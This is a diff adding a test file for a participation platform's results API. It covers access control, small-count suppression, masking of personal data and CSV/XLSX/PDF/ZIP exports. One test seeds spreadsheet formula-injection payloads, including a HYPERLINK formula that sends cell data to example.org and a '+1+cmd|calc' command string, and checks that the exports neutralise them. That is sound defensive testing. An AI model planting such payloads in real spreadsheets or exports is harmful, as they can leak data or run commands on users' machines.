@@ -1,0 +1,298 @@
+import ExcelJS from 'exceljs';
+import { unzipSync } from 'fflate';
+import { extractText, getDocumentProxy } from 'unpdf';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { AggregateResult, AggregateTable, Cell } from '../../shared/api/results.ts';
+import { buildContribution } from '../factories/contributions.ts';
+import { buildResponse } from '../factories/responses.ts';
+import { buildUser, TEST_PASSWORD } from '../factories/users.ts';
+import { buildTestApp, signIn, type Agent, type TestApp } from '../helpers/app.ts';
+
+const FORMATS = ['csv', 'xlsx', 'pdf', 'zip'] as const;
+
+/** Every cell text of a workbook, sheet by sheet, and whether any cell holds a formula. */
+async function readWorkbook(data: Buffer | Uint8Array) {
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(Buffer.from(data) as unknown as ArrayBuffer);
+  const sheets: Record<string, string[][]> = {};
+  let formulas = 0;
+  workbook.eachSheet((sheet) => {
+    const rows: string[][] = [];
+    sheet.eachRow((row) => {
+      const cells: string[] = [];
+      row.eachCell({ includeEmpty: true }, (cell) => {
+        if (cell.formula) formulas += 1;
+        cells.push(cell.value === null || cell.value === undefined ? '' : String(cell.value));
+      });
+      rows.push(cells);
+    });
+    sheets[sheet.name] = rows;
+  });
+  return { sheets, formulas, text: Object.values(sheets).flat(2).join('\n') };
+}
+
+async function pdfText(data: Buffer | Uint8Array): Promise<string> {
+  const { text } = await extractText(await getDocumentProxy(new Uint8Array(data)), { mergePages: true });
+  return text;
+}
+
+/** The text a person would read in each export format, the ZIP's three files included. */
+async function readableText(format: (typeof FORMATS)[number], data: Buffer): Promise<Record<string, string>> {
+  if (format === 'csv') return { csv: data.toString('utf8') };
+  if (format === 'xlsx') return { xlsx: (await readWorkbook(data)).text };
+  if (format === 'pdf') return { pdf: await pdfText(data) };
+  const files = unzipSync(new Uint8Array(data));
+  const names = Object.keys(files).sort();
+  expect(names.map((name) => name.split('.').pop())).toEqual(['csv', 'pdf', 'xlsx']);
+  const result: Record<string, string> = {};
+  for (const name of names) {
+    const extension = name.split('.').pop() as 'csv' | 'xlsx' | 'pdf';
+    result[`zip/${name}`] = Object.values(await readableText(extension, Buffer.from(files[name]!)))[0]!;
+  }
+  return result;
+}
+
+const shown = (cells: Array<{ key?: string } & Cell>) => Object.fromEntries(cells.map((cell) => [cell.key, cell.count]));
+
+/** No sum in a table may have exactly one suppressed member, or the member could be recomputed. */
+function expectNoLoneSuppression(table: AggregateTable) {
+  const sizes = table.margins.map((margin) => margin.length);
+  sizes.forEach((size, d) => {
+    for (let value = 0; value < size; value += 1) {
+      const key = table.margins[d]![value]!.key;
+      const members = [...table.cells.filter((cell) => cell.keys[d] === key), table.margins[d]![value]!];
+      expect(members.filter((cell) => cell.suppressed).length, `${key}`).not.toBe(1);
+    }
+    expect([...table.margins[d]!, table.total].filter((cell) => cell.suppressed).length).not.toBe(1);
+  });
+}
+
+describe('results: aggregates and exports for working groups', () => {
+  let t: TestApp;
+  let admin: Agent;
+  let group: Agent;
+  const url = (path: string) => `/api/processes/${t.slug}/${path}`;
+  const aggregates = async (agent: Agent, query: string): Promise<AggregateResult> => {
+    const response = await agent.inject({ method: 'GET', url: url(`aggregates?${query}`) });
+    expect(response.statusCode, response.body).toBe(200);
+    return response.json();
+  };
+  const download = (agent: Agent, format: string, query = '') => agent.inject({ method: 'GET', url: url(`exports/${format}${query}`) });
+
+  beforeEach(async () => {
+    t = await buildTestApp();
+    admin = await signIn(t.app, (await buildUser(t.db, { role: 'admin' })).username, TEST_PASSWORD);
+    group = await signIn(t.app, (await buildUser(t.db, { role: 'working_group', fieldsOfAction: ['arbeit'] })).username, TEST_PASSWORD);
+  });
+  afterEach(() => t.close());
+
+  it('answers 401 without a session and 403 for staff, on aggregates and on every export format', async () => {
+    const staff = await signIn(t.app, (await buildUser(t.db, { role: 'staff' })).username, TEST_PASSWORD);
+    for (const path of ['aggregates', ...FORMATS.map((format) => `exports/${format}`)]) {
+      const anonymous = await t.app.inject({ method: 'GET', url: url(path) });
+      expect(anonymous.statusCode, path).toBe(401);
+      expect(anonymous.json().error.code).toBe('unauthorized');
+      const forbidden = await staff.inject({ method: 'GET', url: url(path) });
+      expect(forbidden.statusCode, path).toBe(403);
+      expect(forbidden.json().error.code).toBe('forbidden');
+    }
+  });
+
+  it('gives a working group its own fields only: another field is 403 everywhere, flagged responses are for admins to include', async () => {
+    for (const path of ['aggregates?field=freizeit', ...FORMATS.map((format) => `exports/${format}?field=freizeit`)]) {
+      const response = await group.inject({ method: 'GET', url: url(path) });
+      expect(response.statusCode, path).toBe(403);
+      expect(response.json().error.code).toBe('forbidden');
+    }
+    expect((await group.inject({ method: 'GET', url: url('aggregates?includeFlagged=true') })).statusCode).toBe(403);
+    const own = await aggregates(group, 'by=field');
+    expect(own.fields).toEqual(['arbeit']);
+    expect(own.values[0]!.map((value) => value.label)).toEqual(['Arbeit & Beschäftigung']);
+    const admins = await aggregates(admin, 'by=field&field=bildung');
+    expect(admins.fields).toEqual(['bildung', 'bildung-schulisch', 'bildung-ausserschulisch']);
+  });
+
+  it('rejects unknown dimensions, repeated ones, more than three and an unknown district with 400', async () => {
+    for (const query of ['by=wetter', 'by=channel,channel', 'by=field,district,channel,month', 'district=atlantis', 'by=', 'channel=brief']) {
+      const response = await admin.inject({ method: 'GET', url: url(`aggregates?${query}`) });
+      expect(response.statusCode, query).toBe(400);
+    }
+  });
+
+  it('suppresses counts under 5, and the next-smallest count in the same margin so the total cannot give it away', async () => {
+    const seed = { stall: 7, online: 6, paper: 5, conference: 5, workshop: 2 } as const;
+    for (const [channel, n] of Object.entries(seed)) {
+      for (let i = 0; i < n; i += 1) buildContribution(t.db, { text: `Arbeit ${channel} ${i}`, channel: channel as keyof typeof seed, fieldsOfAction: ['arbeit'] });
+    }
+    const result = await aggregates(group, 'by=channel');
+    expect(result.threshold).toBe(5);
+    expect(result.dimensions).toEqual(['channel']);
+    expect(result.values[0]!.map((value) => value.label)).toEqual(['Online-Befragung', 'Marktstand', 'Papierfragebogen', 'Integrationskonferenz', 'Arbeitsgruppe']);
+    // workshop (2) is under 5; paper (5) is the next-smallest and goes too, else 25 − 7 − 6 − 5 = 7 would reveal workshop's 2.
+    expect(shown(result.contributions.margins[0]!)).toEqual({ online: 6, stall: 7, paper: null, conference: 5, workshop: null });
+    expect(result.contributions.cells.find((cell) => cell.keys[0] === 'workshop')).toEqual({ keys: ['workshop'], count: null, suppressed: true });
+    expect(result.contributions.total).toEqual({ count: 25, suppressed: false });
+
+    const cross = await aggregates(group, 'by=district,channel');
+    expect(cross.values.map((list) => list.length)).toEqual([8, 5]);
+    expect(cross.contributions.cells).toHaveLength(40);
+    expectNoLoneSuppression(cross.contributions);
+    expect(cross.contributions.cells.every((cell) => (cell.suppressed ? cell.count === null : cell.count! >= 5))).toBe(true);
+    // All 25 are from Gronau (bezirk-2): its row and the channel margins tell the same as above.
+    expect(shown(cross.contributions.margins[0]!)['bezirk-2']).toBe(25);
+  });
+
+  it('counts neither hidden contributions nor those of flagged responses; an admin may include the flagged ones', async () => {
+    for (let i = 0; i < 6; i += 1) buildContribution(t.db, { text: `Mehr Jobs ${i}`, fieldsOfAction: ['arbeit'], channel: 'stall' });
+    const hidden = buildContribution(t.db, { text: 'Doppelt erfasst', fieldsOfAction: ['arbeit'], channel: 'stall' });
+    expect((await admin.inject({ method: 'POST', url: `/api/admin/processes/${t.slug}/contributions/${hidden}/hide`, payload: { version: 1, reason: 'Doppelt' } })).statusCode).toBe(204);
+    for (let i = 0; i < 5; i += 1) buildResponse(t.db, { answers: { 'work-idea': `Idee ${i}` } });
+    buildResponse(t.db, { answers: { 'work-idea': 'Bot-Text' }, flags: ['too_fast'] });
+    buildResponse(t.db, { answers: { 'work-situation': null, 'leisure-situation': 3 } }); // nothing in "arbeit"
+
+    const result = await aggregates(group, 'by=channel');
+    expect(shown(result.contributions.margins[0]!)).toMatchObject({ stall: 6, online: 5 });
+    expect(result.contributions.total.count).toBe(11);
+    expect(shown(result.responses!.margins[0]!)).toMatchObject({ online: 5 });
+
+    const withFlagged = await aggregates(admin, 'by=channel&field=arbeit&includeFlagged=true');
+    expect(shown(withFlagged.contributions.margins[0]!)).toMatchObject({ stall: 6, online: 6 });
+    expect(withFlagged.responses!.total.count).toBe(6);
+
+    const csv = (await download(group, 'csv')).body;
+    expect(csv).not.toContain('Doppelt erfasst');
+    expect(csv).not.toContain('Bot-Text');
+  });
+
+  it('places questionnaires by the self-reported Stadtteil, and has no questionnaire counts where they make no sense', async () => {
+    for (let i = 0; i < 5; i += 1) buildResponse(t.db, { stadtteil: 'bensberg' });
+    for (let i = 0; i < 6; i += 1) buildResponse(t.db, { stadtteil: 'refrath', channel: 'paper' });
+    buildResponse(t.db, { stadtteil: 'outside' });
+    const result = await aggregates(group, 'by=district');
+    expect(shown(result.responses!.margins[0]!)).toMatchObject({ 'bezirk-5': 5, 'bezirk-6': 6, outside: null });
+    expect(result.values[0]!.find((value) => value.key === 'outside')!.label).toBe('außerhalb der Stadt');
+    const filtered = await aggregates(group, 'by=stadtteil&district=bezirk-6&channel=paper');
+    expect(filtered.values[0]!.map((value) => value.key)).toEqual(['refrath', 'alt-refrath', 'kippekausen', 'frankenforst', 'lustheide']);
+    expect(shown(filtered.responses!.margins[0]!).refrath).toBe(6);
+    expect((await aggregates(group, 'by=kind')).responses).toBeNull();
+  });
+
+  it('breaks down by month, never by day, from the first month to the last', async () => {
+    for (let i = 0; i < 5; i += 1) buildContribution(t.db, { text: `November ${i}`, fieldsOfAction: ['arbeit'], capturedOn: '2026-11-03' });
+    buildContribution(t.db, { text: 'Januar', fieldsOfAction: ['arbeit'], capturedOn: '2027-01-15' });
+    const result = await aggregates(group, 'by=month');
+    expect(result.values[0]!.map((value) => value.key)).toEqual(['2026-11', '2026-12', '2027-01']);
+    expect(JSON.stringify(result)).not.toMatch(/\d{4}-\d{2}-\d{2}/);
+  });
+
+  it('streams every format as a download with its content type and file name', async () => {
+    buildContribution(t.db, { text: 'Mehr Ausbildungsplätze.', fieldsOfAction: ['arbeit'] });
+    const expected = {
+      csv: 'text/csv; charset=utf-8',
+      xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+      pdf: 'application/pdf',
+      zip: 'application/zip',
+    };
+    for (const format of FORMATS) {
+      const response = await download(group, format, '?field=arbeit');
+      expect(response.statusCode, format).toBe(200);
+      expect(response.headers['content-type']).toBe(expected[format]);
+      expect(response.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="mitreden-integrationskonzept-arbeit-\\d{4}-\\d{2}-\\d{2}\\.${format}"$`));
+      expect(response.headers['cache-control']).toBe('no-store');
+    }
+    expect((await download(group, 'csv')).headers['content-disposition']).toContain('-alle-handlungsfelder-');
+    expect((await download(group, 'docx')).statusCode).toBe(400);
+  });
+
+  it('masks personal data in every export format and in the working-group view, and never hands out the original text', async () => {
+    const secrets = ['aylin.k@example.de', '0176 12345678', '+90 532 123 45 67', 'DE89 3704 0044 0532 0130 00', 'Hauptstraße 12', 'Aylin Kaya'];
+    const original =
+      'Ruft mich an: 0176 12345678 oder in Izmir +90 532 123 45 67, schreibt an aylin.k@example.de, ich wohne Hauptstraße 12. ' +
+      'Spenden an DE89 3704 0044 0532 0130 00. Gruß, Aylin Kaya';
+    const id = buildContribution(t.db, { text: original, fieldsOfAction: ['arbeit'] });
+    // A moderator masks the name by hand.
+    const masked = (t.db.$client.prepare('select masked_text from contributions where id = ?').get(id) as { masked_text: string }).masked_text;
+    const start = masked.indexOf('Aylin Kaya');
+    expect((await admin.inject({ method: 'POST', url: `/api/admin/processes/${t.slug}/contributions/${id}/mask`, payload: { version: 1, ranges: [{ start, end: start + 10 }] } })).statusCode).toBe(204);
+    buildContribution(t.db, { text: 'Нужны курсы немецкого языка вечером.', language: 'ru', fieldsOfAction: ['arbeit'] });
+    buildContribution(t.db, { text: 'نحتاج إلى دورات لغة في المساء.', language: 'ar', fieldsOfAction: ['arbeit'] });
+    buildContribution(t.db, { text: 'Akşam kursları çok iyi olur, dziękuję!', language: 'tr', fieldsOfAction: ['arbeit'] });
+
+    const view = await group.inject({ method: 'GET', url: url('contributions?field=arbeit') });
+    const texts: Record<string, string> = { view: view.body };
+    for (const format of FORMATS) {
+      const response = await download(group, format, '?field=arbeit');
+      expect(response.statusCode, format).toBe(200);
+      Object.assign(texts, await readableText(format, response.rawPayload));
+    }
+    expect(Object.keys(texts)).toHaveLength(7);
+    for (const [where, text] of Object.entries(texts)) {
+      // A PDF breaks lines where it likes; compare with whitespace folded, and with none at all.
+      const folded = text.replace(/\s+/g, ' ');
+      const bare = text.replace(/\s+/g, '');
+      for (const secret of secrets) {
+        expect(folded, `${where}: ${secret}`).not.toContain(secret);
+        expect(bare, `${where}: ${secret}`).not.toContain(secret.replace(/\s+/g, ''));
+      }
+      for (const fragment of ['12345678', 'example.de', '0532', 'Kaya']) expect(bare, `${where}: ${fragment}`).not.toContain(fragment);
+      for (const token of ['[Telefon entfernt]', '[E-Mail entfernt]', '[IBAN entfernt]', '[Adresse entfernt]', '[Name entfernt]']) {
+        expect(folded, `${where}: ${token}`).toContain(token);
+      }
+      expect(folded, where).toContain('курсы немецкого');
+      expect(folded, where).toContain('Akşam kursları çok iyi olur, dziękuję!');
+    }
+  });
+
+  it('prints the month and a place no finer than the working-group view allows', async () => {
+    for (let i = 0; i < 5; i += 1) buildContribution(t.db, { text: `Idee ${i} aus Bensberg`, fieldsOfAction: ['arbeit'], stadtteil: 'bensberg', capturedOn: '2026-11-20' });
+    buildContribution(t.db, { text: 'Moitzfeld allein', fieldsOfAction: ['arbeit'], stadtteil: 'moitzfeld', capturedOn: '2026-11-21' });
+    buildContribution(t.db, { text: 'Schildgen allein', fieldsOfAction: ['arbeit'], stadtteil: 'schildgen' });
+    const csv = (await download(group, 'csv')).body;
+    expect(csv.charCodeAt(0)).toBe(0xfeff);
+    const lines = csv.slice(1).split('\r\n');
+    expect(lines[0]).toBe('Monat;Handlungsfeld;Art;Kanal;Sprache;Ort;Beitrag');
+    expect(lines.find((line) => line.includes('Idee 0 aus'))).toBe('2026-11;Arbeit & Beschäftigung;;Marktstand;Deutsch;Bensberg;Idee 0 aus Bensberg');
+    expect(lines.find((line) => line.includes('Moitzfeld allein'))!.split(';')[5]).toBe('Bezirk 5');
+    expect(lines.find((line) => line.includes('Schildgen allein'))!.split(';')[5]).toBe('');
+    expect(csv).not.toMatch(/2026-11-2\d/);
+    // The count tables follow the contributions, suppressed the same way as the aggregates.
+    expect(lines).toContain('Stadtbezirk;Beiträge;Fragebögen');
+    expect(lines).toContain('Bezirk 5;6;< 5');
+    expect(lines).toContain('Bezirk 1;< 5;< 5');
+    expect(csv).toContain('„< 5“ heißt: weniger als 5 Stimmen');
+    const workbook = await readWorkbook((await download(group, 'xlsx')).rawPayload);
+    expect(Object.keys(workbook.sheets)).toEqual(['Beiträge', 'Anzahlen']);
+    expect(workbook.sheets['Beiträge']!.find((row) => row[6] === 'Moitzfeld allein')![5]).toBe('Bezirk 5');
+    expect(workbook.sheets['Anzahlen']).toContainEqual(['Bezirk 5', '6', '< 5']);
+  });
+
+  it('streams more contributions than one page holds, each once, while the database stays usable', async () => {
+    const insert = t.db.$client.transaction(() => {
+      for (let i = 0; i < 1234; i += 1) buildContribution(t.db, { text: `Beitrag Nummer ${i}`, fieldsOfAction: ['arbeit'], capturedOn: `2026-${String(1 + (i % 12)).padStart(2, '0')}-10` });
+    });
+    insert();
+    const [csv, health] = await Promise.all([download(group, 'csv'), t.app.inject({ method: 'GET', url: '/api/health' })]);
+    expect(health.statusCode).toBe(200);
+    const numbers = csv.body.split('\r\n').flatMap((line) => /;Beitrag Nummer (\d+)$/.exec(line)?.[1] ?? []);
+    expect(numbers).toHaveLength(1234);
+    expect(new Set(numbers).size).toBe(1234);
+    const months = csv.body.split('\r\n').slice(1, 1235).map((line) => line.slice(0, 7));
+    expect(months).toEqual([...months].sort());
+  });
+
+  it('neutralises cells that a spreadsheet would run as a formula, in CSV and XLSX', async () => {
+    const attacks = ['=HYPERLINK("http://example.org/?x="&A1;"Klick")', '+1+cmd|calc', '-2+3', '@SUM(1;2)'];
+    for (const text of attacks) buildContribution(t.db, { text, fieldsOfAction: ['arbeit'] });
+    const csv = (await download(group, 'csv')).body;
+    const lines = csv.split('\r\n');
+    for (const text of attacks) {
+      const line = lines.find((candidate) => candidate.includes(text.slice(1, 8)))!;
+      const cell = line.slice(line.lastIndexOf(';', line.indexOf(text.slice(1, 8))) + 1);
+      expect(cell.replace(/^"/, '').startsWith(`'${text[0]}`), line).toBe(true);
+    }
+    const workbook = await readWorkbook((await download(group, 'xlsx')).rawPayload);
+    expect(workbook.formulas).toBe(0);
+    const texts = workbook.sheets['Beiträge']!.map((row) => row[6]);
+    for (const text of attacks) expect(texts).toContain(`'${text}`);
+  });
+});
